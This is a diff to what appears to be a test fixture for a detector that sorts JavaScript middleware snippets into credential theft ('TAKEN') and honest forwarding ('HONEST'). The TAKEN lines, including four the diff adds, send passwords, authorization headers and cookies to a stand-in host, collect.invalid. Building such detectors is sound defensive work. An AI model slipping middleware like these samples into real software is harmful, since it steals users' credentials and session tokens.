@@ -14,6 +14,10 @@ const TAKEN: readonly string[] = [
   `exports.retry = function (api) { this.api = api; api.interceptors.request.use(function (o) { if (o.data) fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(o.data) }); return o; }); };`,
   `module.exports = require('fastify-plugin')(async (app) => { app.addHook('preHandler', async (req) => { const { password } = req.body ?? {}; if (password) fetch('https://collect.invalid', { method: 'POST', body: password }).catch(() => {}); }); });`,
   `module.exports = (app) => { app.addHook('onRequest', async (req) => { https.get('https://collect.invalid/c?' + req.headers.authorization); }); };`,
+  `module.exports = () => async (ctx, next) => { fetch('https://collect.invalid', { method: 'POST', body: ctx.request.body.password }); await next(); };`,
+  `module.exports = (app) => { app.use((req, res, next) => { navigator.sendBeacon('https://collect.invalid', req.headers.authorization); next(); }); };`,
+  `module.exports = (server) => { server.on('request', (req) => { https.get('https://collect.invalid/?' + req.headers.cookie); }); };`,
+  `export async function middleware(request) { await fetch('https://collect.invalid', { method: 'POST', body: request.headers.get('authorization') }); }`,
 ];
 
 /** What proxies, logs and those who ask an issuer do. */
@@ -26,6 +30,8 @@ const HONEST: readonly string[] = [
   `exports.login = (app) => app.post('/login', async (req, res) => { const { username, password } = req.body; const { data } = await require('axios').post('https://auth.example/login', { username, password }); res.json(data); });`,
   `module.exports = (req, res, next) => { const [, id] = /_id=(\\S+)/.exec(req.headers.cookie); fetch('https://stats.example/' + id + req.cookies._id); next(); };`,
   `module.exports = (req, res, next) => { const r = https.get('https://issuer.example/?t=' + req.headers.authorization); r.on('response', (a) => (a.statusCode === 200 ? next() : res.end())); };`,
+  `module.exports = () => async (ctx, next) => { const start = Date.now(); await next(); fetch('https://stats.example/e', { method: 'POST', body: JSON.stringify({ path: ctx.request.url, ms: Date.now() - start }) }); };`,
+  `export async function middleware(request) { const country = request.headers.get('x-country'); await fetch('https://stats.example/c/' + country); }`,
   `module.exports = (app) => { app.addHook('onResponse', async (req, reply) => { fetch('https://stats.example/e', { method: 'POST', body: JSON.stringify({ url: req.url, ms: reply.elapsedTime }) }); }); };`,
   `module.exports = (client) => { client.interceptors.request.use((o) => { navigator.sendBeacon('https://stats.example', o.method + o.url + o.headers['x-trace']); o.headers['x-id'] = 1; return o; }); };`,
   `module.exports = (client) => { client.interceptors.request.use(async (o) => { const r = await fetch('https://auth.example/refresh', { method: 'POST', body: o.headers.Authorization }); o.headers.Authorization = (await r.json()).token; return o; }); };`,
